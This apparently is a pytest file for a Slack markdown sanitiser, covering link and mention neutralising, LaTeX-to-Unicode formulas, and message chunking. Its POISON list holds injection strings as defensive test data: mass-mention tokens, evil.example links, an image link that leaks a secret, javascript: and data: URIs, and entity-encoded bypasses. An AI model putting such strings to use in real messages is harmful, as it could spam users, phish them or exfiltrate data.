"""Markdown for Slack: nothing calls people or leads away, formulas can be read, and no piece is too long."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from api.slack.markdown import JOINER, MAX_MARKDOWN, fallback, harmless, pieces, readable

LIVE = re.compile(
    r"<[@!#]|<[a-z][a-z0-9+.-]*:|[a-z]://|\]\(|^\[[^\]]*\]:|@(?:channel|here|everyone)\b|\bwww\.|\bmailto:",
    re.IGNORECASE | re.MULTILINE,
)

POISON = [
    "<!channel> 看这里", "<!here>", "<!everyone|all>", "<!subteam^S123|@team>", "<@U0VICTIM>", "<@W1|boss>",
    "<#C0SECRET|general>", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "<\\!channel>", "&#60;!here&#62;",
    "<&#33;channel>", "<&commat;U1>", "@channel @here @everyone", "[点我](https://evil.example/?q=1)",
    "![](https://evil.example/leak.png?d=secret)", "<https://evil.example|notes>", "https://evil.example/a_b",
    "[a][b]\n\n[b]: https://evil.example", "www.evil.example", "<mailto:a@b.c>", "[x](javascript:alert(1))",
    "[x](data:text/html;base64,AAAA)", "`<!channel>`", "`` ` `` https://evil.example", "<HTTPS://EVIL.EXAMPLE>",
    "[nested [x](http://a)](http://b)", "<slack://user?team=T1&id=U1>",
]  # fmt: skip


@pytest.mark.parametrize("text", POISON)
def test_nothing_live_is_left(text: str) -> None:
    assert LIVE.search(text) or LIVE.search(text.replace("\\", "")) or "&" in text
    found = harmless(text)
    assert not LIVE.search(found), found
    assert not re.search(r"&#?\w+;", found)  # nothing that a reader might decode
    assert "<" not in fallback(text)


@given(st.lists(st.sampled_from([*POISON, "```", "\n", "``", "&lt;", "<", "!channel>", "文字"]), max_size=8))
def test_no_mixture_of_poison_is_live_outside_code_nor_calls_anybody_inside(parts: list[str]) -> None:
    found = harmless("".join(parts))
    assert not re.search(r"<\\?[@!#]|@(?:channel|here|everyone)\b", found)
    if "```" not in found:
        assert not LIVE.search(found)


def test_what_is_harmless_stays_as_it_is() -> None:
    text = "**BN** 在 a < b 时用 `x[i]`，邮箱 a@b.c，比 <b> 好\n\n- 见 [1] 和 [2]\n\n| a | b |\n| - | - |\n| 1 | 2 |"
    assert harmless(text) == text


def test_code_in_a_fence_can_be_copied() -> None:
    code = "```python\nself.layers[i](x)  # see https://pytorch.org\nif a <b: pass\n```\n"
    assert harmless(code) == code
    assert harmless("```\n<!channel>\n```") == f"```\n<{JOINER}!channel>\n```"


def test_a_fence_that_only_looks_like_one_shields_no_link() -> None:
    assert not LIVE.search(harmless("```js`\nhttps://evil.example"))
    assert not LIVE.search(harmless("```\ncode\n```\nhttps://evil.example"))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (r"梯度 $\frac{\partial L}{\partial w_{ij}}$ 很小", "梯度 `∂L/∂wᵢⱼ` 很小"),
        (r"其中$\hat{x}=\frac{x-\mu}{\sqrt{\sigma^2+\epsilon}}$是", "其中`x̂=(x-μ)/(√(σ²+ϵ))`是"),
        (r"\(\alpha \le \beta\)", "`α ≤ β`"),
        (r"$$\sum_{i=1}^{n} x_i^2$$", "\n```\n∑ᵢ₌₁ⁿ xᵢ²\n```\n"),
        (r"$\text{softmax}(QK^T/\sqrt{d_k})V$", "`softmax(QKᵀ/√dₖ)V`"),
        (r"$e^{-\lambda t}$, $\log p$, $\{a\}$", "`e^(-λt)`, `log p`, `{a}`"),
        (r"$\unknown{x}$", r"`\unknownx`"),
        ("$5 和 $10，`$HOME/$x$`", "$5 和 $10，`$HOME/$x$`"),
        ("```\n$x^2$\n```", "```\n$x^2$\n```"),
    ],
)
def test_formulas_are_code_with_unicode_signs(text: str, shown: str) -> None:
    assert readable(text) == shown


def test_a_short_text_is_one_piece() -> None:
    assert pieces("一段\n\n两段") == ["一段\n\n两段"]
    assert pieces("") == [""]


def test_cuts_are_between_paragraphs_then_lines_then_sentences() -> None:
    assert pieces("甲" * 60 + "\n\n" + "乙" * 80, 100) == ["甲" * 60, "乙" * 80]
    assert pieces("甲" * 40 + "\n" + "乙" * 80, 100) == ["甲" * 40, "乙" * 80]
    assert pieces("甲" * 40 + "。" + "乙" * 80, 100) == ["甲" * 40 + "。", "乙" * 80]
    assert pieces("甲" * 40 + "；" + "乙" * 80, 100) == ["甲" * 40 + "；", "乙" * 80]


def test_a_fence_is_not_cut_where_it_can_be_helped_and_else_opened_again() -> None:
    code = "```python\n" + "x = 1\n" * 5 + "```"
    assert pieces("甲" * 40 + "\n\n" + code + "\n\n" + "乙" * 40, 100)[1].startswith("```python\nx = 1")
    long = pieces("```python\n" + "x = 1\n" * 40 + "```", 120)
    assert all(piece.startswith("```python\n") and piece.endswith("\n```") for piece in long)
    assert sum(piece.count("x = 1\n") for piece in long) == 40


words = st.sampled_from(
    ["甲乙丙丁", "BN", "。", "；", "\n", "\n\n", "```\n", "```py\n", "\n```\n", " ", "~~~\n", "x" * 90]
)


@given(st.lists(words, max_size=80))
@settings(max_examples=80)
def test_pieces_are_short_and_together_say_the_same(parts: list[str]) -> None:
    text = "".join(parts)
    found = pieces(text, 120)
    assert all(len(piece) <= 120 for piece in found)

    def said(of: str) -> str:
        return re.sub(r"[`~]{3,}(?:py)?|\s", "", of)

    assert said("".join(found)) == said(text)


def test_the_longest_answer_fits_slack() -> None:
    assert max(map(len, pieces("很长。" * 20_000))) <= MAX_MARKDOWN < 12_000
